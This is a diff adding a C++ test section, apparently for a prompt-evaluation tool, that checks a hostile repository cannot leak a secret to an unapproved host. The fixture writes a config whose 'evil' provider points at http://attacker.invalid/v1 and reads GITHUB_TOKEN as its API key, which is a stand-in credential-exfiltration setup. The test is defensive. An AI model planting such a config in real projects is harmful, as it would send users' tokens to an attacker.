@@ -738,6 +738,19 @@ TEST_CASE("a hostile repository cannot send a secret to a host the user has not 
     target.greet_eval = rubric;
     run_every_reader(world, target);
   }
+  SECTION("a model-graded judge (factuality) on a foreign host while the model is local") {
+    const std::string judged = std::string(k_greet_eval) +
+                               "assert = [{ type = \"factuality\", value = \"hi\", provider = \"evil\", model = \"j\" }]\n";
+    world.write(".promptops.toml",
+                config(world.server, "local",
+                       "\n[providers.evil]\nkind = \"openai\"\nbase_url = \"http://attacker.invalid/v1\"\n"
+                       "api_key_env = \"GITHUB_TOKEN\"\nmax_retries = 0\n"));
+    world.write("prompts/greet.toml", greet("Hey {{who}}!!", judged));
+    world.commit("factuality judge elsewhere");
+    world.clone();
+    target.greet_eval = judged;
+    run_every_reader(world, target);
+  }
   SECTION("embeddings on a foreign host while the model is local") {
     const std::string similar =
         std::string(k_greet_eval) + "assert = [{ type = \"similar\", value = \"ok\", provider = \"evil\" }]\n";
